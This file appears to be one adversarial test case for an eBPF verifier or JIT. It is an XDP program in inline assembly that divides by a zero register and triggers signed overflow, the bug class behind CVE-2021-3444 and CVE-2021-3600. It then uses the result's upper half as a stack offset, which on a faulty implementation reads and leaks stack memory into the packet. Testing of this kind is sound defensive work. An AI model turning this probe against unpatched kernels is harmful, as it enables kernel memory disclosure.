// @class division
// @cpu v4
// @inputs 64:000000000000000007000000ffffffff 64:010000000000000007000000ffffffff 64:020000000000000009000000 64:03000000000000000000008001
/*
 * Division and modulo on 32 bits by a register that is zero, and signed
 * division overflow (the kernel's CVE-2021-3444 and CVE-2021-3600 class:
 * a 32-bit result not zero-extended). RFC 9669: x / 0 = 0, x % 0 = x, both
 * truncated to 32 bits and zero-extended; INT_MIN / -1 = INT_MIN. The upper
 * half of the result, which must be zero, is used as a stack offset. Packet
 * byte 0 picks the case; bytes 8..15 are r6.
 */
#include "adversarial.h"

SEC("xdp")
__naked int attack(struct xdp_md *ctx)
{
	asm volatile (
	LOAD_PACKET
	"r4 = r2;"
	"r4 += 16;"
	"if r4 > r3 goto 9f;"
	"r7 = *(u8 *)(r2 + 0);"
	"r6 = *(u64 *)(r2 + 8);"
	"r5 = 0;"
	"r0 = 0;"
	"if r7 != 0 goto 1f;"
	"w6 %%= w5;"
	"goto 5f;"
"1:"
	"if r7 != 1 goto 2f;"
	"w6 /= w5;"
	"r6 += 8;"
	"goto 5f;"
"2:"
	"if r7 != 2 goto 3f;"
	"r6 %%= r5;"
	"r6 &= 0xff;"
	"r6 <<= 32;"
	"goto 5f;"
"3:"
	"w5 = -1;"
	"w6 s/= w5;"
"5:"
	"r6 >>= 32;"
	"r8 = r10;"
	"r8 += -8;"
	"r8 += r6;"
	"r0 = *(u8 *)(r8 + 0);"
	"*(u8 *)(r2 + 1) = r0;"
"9:"
	"exit;"
	::: __clobber_all);
}
